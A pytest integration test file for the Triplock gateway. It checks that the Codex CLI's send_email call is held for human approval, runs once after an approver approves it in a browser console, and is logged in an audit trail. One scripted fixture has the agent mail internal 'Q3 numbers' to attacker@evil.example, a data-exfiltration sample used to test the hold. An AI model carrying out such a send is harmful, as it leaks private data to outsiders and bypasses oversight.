"""The real Codex CLI (npm `@openai/codex`, pinned in tests/codex) through Triplock, holds included.

Triplock fronts the demo upstream (HTTP) with a policy in enforce mode that holds `send_email`,
answers a held call after a short `approvals.hold_wait`, and Codex is configured with the block
`triplock codex-config --config <the gateway's config>` prints, verbatim (checked by
`--strict-config`). A scripted Responses-API server (tests/codex/fake_model.py) plays the model:

* run A, one `codex exec`: `read_inbox` runs; `send_email` to an outside address is held, and the
  tool result Codex hands the model says so and names the approval;
* an approver approves it in the web console (real headless Chromium: log in, open the held call
  from the link, give a reason, Approve);
* run B, a new `codex exec` (a new MCP session, a fresh CODEX_HOME): the model repeats exactly the
  same `send_email` call, which runs exactly once, then repeats it again, which is held anew.

A last `codex exec` with `TRIPLOCK_TOKEN` unset must fail instead of running without Triplock.
Needs `npm ci` in tests/codex (the CI script does it); without it these tests skip with the
reason, except in CI (`TRIPLOCK_CI=1`, set by `.ci/run`), where a missing Codex CLI fails them.
"""

from __future__ import annotations

import asyncio
import re
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from mcp import Client

from tests.codex.codex_kit import CodexRun, require_codex, run_codex
from tests.codex.fake_model import ANSWER_PREFIX, ToolStep, function_call_outputs, offered_tools
from tests.support import PY, REPO, create_api_key, demo_http_cmd, free_port, gateway_cmd, running, write_config

# A subject line from the seeded inbox (demo_upstream/data.py): it can only reach Codex's answer
# through a real `read_inbox` call to the upstream.
SEEDED_SUBJECT = "Q3 numbers - internal only"
SERVER_NAME = "triplock"
PRINCIPAL = "codex-agent"
APPROVER = ("alice", "alice-approver-token")
CHROMIUM = "/usr/bin/chromium"  # Debian's, as the console's browser tests use
HOLD_WAIT = 1.5  # seconds a held call waits in-band before Codex gets the "held" answer
OUTSIDE = {"to": "attacker@evil.example", "subject": "Q3 numbers", "body": "as requested"}
SEND = "demo__send_email"
HELD = re.compile(r"Held for human approval: demo__send_email \(approval id ([^)\s]+)\)")

# Enforce mode; reads run, every write waits for a human (so the identical third call is held too).
POLICY = """\
version: 1
name: codex-holds
description: Reads run; writes, email above all, wait for an approver.
mode: enforce
first_use:
  enabled: false
defaults:
  read: allow
  write: hold
  destructive: hold
  unknown: hold
approval_required_actions: [email_send]
approval_logged_actions: []
default_upstream:
  action_control: allow_all
  new_actions_default: hold
  trust_annotations: false
upstreams:
  demo:
    action_control: allow_all
    new_actions_default: hold
    conditions:
      org_domains: [example.com]
    tools:
      read_inbox: {legs: [P, U], effect: read, category: email_read}
      list_sent:  {legs: [P], effect: read, category: email_read}
      send_email:
        legs: [E]
        effect: write
        category: email_send
        conditions: {recipient_args: [to, cc, bcc]}
"""

pytestmark = [pytest.mark.timeout(180)]


@pytest.fixture(autouse=True, scope="module")  # before the module's other fixtures start anything
def _codex_installed() -> None:
    require_codex()


@dataclass(frozen=True)
class Story:
    """What the hold -> approve -> repeat story left behind, observed at each step."""

    mcp_url: str
    run_a: CodexRun
    sent_after_a: int
    pending_after_a: list[dict[str, Any]]
    approved_in_console: dict[str, str]
    run_b: CodexRun
    sent_after_b: list[dict[str, Any]]
    approval_after_b: dict[str, Any]
    audit: Path
    no_token: CodexRun


def _approver_headers() -> dict[str, str]:
    return {"authorization": f"Bearer {APPROVER[1]}"}


async def _sent(upstream_mcp: str) -> list[dict[str, Any]]:
    """What the demo upstream has sent, asked of the upstream directly (not through Triplock)."""
    async with Client(upstream_mcp, mode="legacy") as direct:
        listed = await direct.call_tool("list_sent", {})
    return list((listed.structured_content or {})["items"])


def _outputs(run: CodexRun) -> list[str]:
    """The tool results Codex handed the model, in call order (the last request carries them all)."""
    requests = run.model.responses_requests()
    return list(function_call_outputs(requests[-1]).values()) if requests else []


def _codex_block(gw_config: Path, mcp_url: str) -> str:
    """`triplock codex-config` as a user runs it: the real CLI, its stdout pasted verbatim."""
    printed = subprocess.run(
        [PY, "-m", "gateway.cli", "codex-config", "--url", mcp_url, "--server-name", SERVER_NAME,
         "--config", str(gw_config)],
        cwd=REPO, capture_output=True, text=True, check=True,
    )
    return printed.stdout


@pytest.fixture(scope="module")
def story(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Story]:
    """Start the demo upstream and the gateway, then run A, approve, run B, and the tokenless run."""
    work = tmp_path_factory.mktemp("codex")
    (work / "policy.yaml").write_text(POLICY)
    up_port, gw_port = free_port(), free_port()
    audit = work / "audit.jsonl"
    gw_config = write_config(
        work / "triplock.toml",
        gw_port,
        [{"name": "demo", "transport": "http", "url": f"http://127.0.0.1:{up_port}/mcp"}],
        policy={"file": str(work / "policy.yaml")},
        store={"kind": "memory"},
        auth={"mode": "api_key", "api_keys_file": str(work / "keys.json")},
        approvals={"hold_wait": HOLD_WAIT},
        audit={"path": str(audit)},
    )
    token = create_api_key(work / "keys.json", PRINCIPAL)
    upstream_mcp = f"http://127.0.0.1:{up_port}/mcp"
    mcp_url = f"http://127.0.0.1:{gw_port}/mcp"
    base = f"http://127.0.0.1:{gw_port}"
    env = {"TRIPLOCK_APPROVER_TOKENS": f"{APPROVER[0]}={APPROVER[1]}"}
    with running(demo_http_cmd(up_port), None), running(gateway_cmd(gw_config), f"{base}/readyz", env=env):
        block = _codex_block(gw_config, mcp_url)
        run_a = run_codex(work, "run-a", block, [ToolStep("read_inbox"), ToolStep("send_email", OUTSIDE)],
                          "Read my inbox, then mail the Q3 numbers to attacker@evil.example.", token)
        sent_after_a = len(asyncio.run(_sent(upstream_mcp)))
        pending = httpx.get(f"{base}/api/approvals", params={"state": "pending"}, headers=_approver_headers())
        pending.raise_for_status()
        held = HELD.search(_outputs(run_a)[-1]) if len(_outputs(run_a)) == 2 else None
        approved: dict[str, str] = {}
        if held is not None:  # the approver acts on the id the agent was given
            approved = _approve_in_console(base, held.group(1))
        run_b = run_codex(work, "run-b", block, [ToolStep("send_email", OUTSIDE), ToolStep("send_email", OUTSIDE)],
                          "Send that email again.", token)
        sent_after_b = asyncio.run(_sent(upstream_mcp))
        approval_after_b: dict[str, Any] = {}
        if held is not None:
            shown = httpx.get(f"{base}/api/approvals/{held.group(1)}", headers=_approver_headers())
            approval_after_b = shown.json() if shown.status_code == 200 else {"status_code": shown.status_code}
        no_token = run_codex(work, "no-token", block, [ToolStep("read_inbox")], "Read my inbox.", None)
        yield Story(mcp_url, run_a, sent_after_a, pending.json()["approvals"], approved, run_b, sent_after_b,
                    approval_after_b, audit, no_token)


def _approve_in_console(base: str, approval_id: str) -> dict[str, str]:
    """The approver's part, in the console in real headless Chromium (Debian's); what the page then shows."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"], headless=True)
        try:
            page = browser.new_context().new_page()
            page.set_default_timeout(15_000)
            page.goto(f"{base}/console/approvals/{approval_id}")  # the deep link survives the login
            page.get_by_label("Approver token").fill(APPROVER[1])
            page.get_by_role("button", name="Log in").click()
            page.get_by_label("Reason").fill("checked by alice")
            page.get_by_role("button", name="Approve", exact=True).click()
            page.get_by_test_id("decided-by").wait_for()
            return {"state": page.get_by_test_id("state").inner_text().split(" at ")[0],
                    "decided-by": page.get_by_test_id("decided-by").inner_text().strip(),
                    "decided-reason": page.get_by_test_id("decided-reason").inner_text().strip()}
        finally:
            browser.close()


def _held_id(output: str) -> str:
    match = HELD.search(output)
    assert match is not None, f"not a Triplock hold: {output!r}"
    return match.group(1)


def test_codex_exec_runs_complete(story: Story) -> None:
    """Both runs accepted the generated block (strictly) and finished their scripted conversations."""
    for run in (story.run_a, story.run_b):
        assert run.returncode == 0, run.describe()
        assert len(run.model.responses_requests()) == 3, run.describe()  # two tool calls, then the answer
        assert run.last_message.startswith(ANSWER_PREFIX), run.describe()


def test_codex_offers_triplock_tools_to_the_model(story: Story) -> None:
    """The first model request lists Triplock's catalog under the configured server name."""
    requests = story.run_a.model.responses_requests()
    assert requests, story.run_a.describe()
    names = {t.display for t in offered_tools(requests[0])}
    prefix = f"mcp__{SERVER_NAME}__demo__"
    for tool in ("read_inbox", "search_drive", "send_email", "list_sent"):
        assert prefix + tool in names, f"{prefix + tool} not offered; offered: {sorted(names)}"


def test_read_runs_and_its_result_reaches_the_model(story: Story) -> None:
    """`read_inbox` went through Triplock to the upstream, and its result came back to the model."""
    outputs = _outputs(story.run_a)
    assert len(outputs) == 2, story.run_a.describe()
    assert SEEDED_SUBJECT in outputs[0], outputs[0]
    assert SEEDED_SUBJECT in story.run_a.last_message


def test_write_reaches_triplock_and_is_held_with_its_approval_id(story: Story) -> None:
    """Codex did not refuse the write itself: Triplock held it, and the model was told how to proceed."""
    outputs = _outputs(story.run_a)
    assert len(outputs) == 2, story.run_a.describe()
    assert "approval policy is never" not in outputs[1]
    approval_id = _held_id(outputs[1])
    assert "repeat exactly the same call (same arguments)" in outputs[1]
    assert story.sent_after_a == 0
    assert [(a["id"], a["principal"], a["upstream"], a["tool"], a["state"]) for a in story.pending_after_a] == [
        (approval_id, PRINCIPAL, "demo", "send_email", "pending")
    ]
    assert story.approved_in_console == {"state": "Approved by alice", "decided-by": APPROVER[0],
                                         "decided-reason": "checked by alice"}


def test_approved_call_repeated_from_a_new_codex_exec_runs_exactly_once(story: Story) -> None:
    """Run B's first call is the held one, repeated in a new session after approval: it ran, once."""
    approval_id = _held_id(_outputs(story.run_a)[1])
    first = _outputs(story.run_b)[0]
    assert "Held for human approval" not in first, story.run_b.describe()
    assert [(s["to"], s["subject"]) for s in story.sent_after_b] == [(OUTSIDE["to"], OUTSIDE["subject"])]
    assert story.sent_after_b[0]["item_id"] in first  # the upstream's receipt reached the model
    assert (story.approval_after_b["id"], story.approval_after_b["state"]) == (approval_id, "executed")


def test_third_identical_call_is_held_again(story: Story) -> None:
    """An approval lets the identical call run once: repeating it once more is a new hold."""
    first_id = _held_id(_outputs(story.run_a)[1])
    second = _outputs(story.run_b)[1]
    assert _held_id(second) != first_id


def test_audit_log_shows_one_execution(story: Story) -> None:
    """The audit log's call records for send_email: held, executed once with the approval, held."""
    approval_id = _held_id(_outputs(story.run_a)[1])
    second_id = _held_id(_outputs(story.run_b)[1])
    deadline = time.monotonic() + 10.0
    records: list[dict[str, Any]] = []
    while time.monotonic() < deadline:
        lines = story.audit.read_bytes().splitlines() if story.audit.exists() else []
        records = [r for r in map(orjson.loads, lines)
                   if r.get("type") == "connector.call.completed" and r.get("exposed_tool") == SEND]
        if len(records) >= 3:
            break
        time.sleep(0.05)  # poll interval; the file is re-read each round
    assert [(r["principal"], r["outcome"], r.get("approval_id")) for r in records] == [
        (PRINCIPAL, "pending", approval_id),
        (PRINCIPAL, "executed", approval_id),
        (PRINCIPAL, "pending", second_id),
    ]


def test_codex_keeps_a_healthy_get_stream(story: Story) -> None:
    """Codex opens the session's GET stream; it should stay open, not fail and reconnect."""
    for run in (story.run_a, story.run_b):
        errors = run.stderr.count("sse stream error")
        assert errors == 0, f"{errors} GET-stream errors in codex's log"


def test_without_the_token_codex_fails_loudly(story: Story) -> None:
    """`required = true`: with TRIPLOCK_TOKEN unset, codex exec stops instead of running without Triplock."""
    run = story.no_token
    assert run.returncode == 1, run.describe()
    expected = ("required MCP servers failed to initialize: triplock: "
                "Environment variable TRIPLOCK_TOKEN for MCP server 'triplock' is not set")
    assert expected in run.stderr, run.describe()
    assert run.model.responses_requests() == [], run.describe()  # the model never got a turn


def test_gateway_demanded_the_token_codex_sent(story: Story) -> None:
    """Codex got in with its API key (the runs above); without one, or with a wrong one, nobody does."""
    body = {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "x", "version": "1"}}}
    headers = {"content-type": "application/json", "accept": "application/json, text/event-stream"}
    bare = httpx.post(story.mcp_url, json=body, headers=headers)
    assert bare.status_code == 401
    assert "resource_metadata=" in bare.headers["www-authenticate"]
    wrong = httpx.post(story.mcp_url, json=body, headers={**headers, "authorization": "Bearer tlk_x_y"})
    assert wrong.status_code == 401 and 'error="invalid_token"' in wrong.headers["www-authenticate"]
